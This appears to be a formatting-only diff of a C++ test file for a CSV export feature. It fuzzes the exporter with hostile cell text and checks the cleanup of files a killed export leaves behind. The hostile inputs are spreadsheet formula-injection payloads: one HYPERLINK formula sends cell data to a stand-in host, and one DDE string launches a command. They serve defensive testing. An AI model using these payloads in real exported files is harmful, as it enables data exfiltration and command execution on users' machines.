@@ -62,8 +62,8 @@ std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
 // The hostile text of the family: what a team mate may type into a note, a
 // driver's name, a run's name or its position.
 const char* const kHeads[] = {"=", "+", "-", "@", "\t", "'", "''", "-2", ""};
-const char* const kBodies[] = {"1+2", "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "SUM(1+1)",
-                               "1+cmd|' /C calc'!A0", ".5", "x", "2*3"};
+const char* const kBodies[] = {
+    "1+2", "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "SUM(1+1)", "1+cmd|' /C calc'!A0", ".5", "x", "2*3"};
 
 std::string hostile(std::mt19937& random) {
     return std::string(kHeads[random() % std::size(kHeads)]) + kBodies[random() % std::size(kBodies)];
@@ -261,8 +261,8 @@ TEST(CsvExport, AKilledExportLeavesNoSetupsWithoutRunsAndTheNextClearsWhatItLeft
     }
     folder.write("same/.Library.csv.Killed", "what a killed export left");
     folder.write("outside.txt", "not ours to remove");
-    const std::vector<std::string> kept = {".Library.csv.LinkTo", ".Library.csv.Folder", ".Library.csv.abc",
-                                           ".Library.csv.Longer7", ".Other.csv.Abcdef", ".Library.csv.Writer"};
+    const std::vector<std::string> kept = {".Library.csv.LinkTo",  ".Library.csv.Folder", ".Library.csv.abc",
+                                           ".Library.csv.Longer7", ".Other.csv.Abcdef",   ".Library.csv.Writer"};
     fs::create_symlink(folder.path() / "outside.txt", same / kept[0]);
     fs::create_directory(same / kept[1]);
     for (std::size_t i = 2; i < kept.size(); ++i) folder.write("same/" + kept[i], "x");
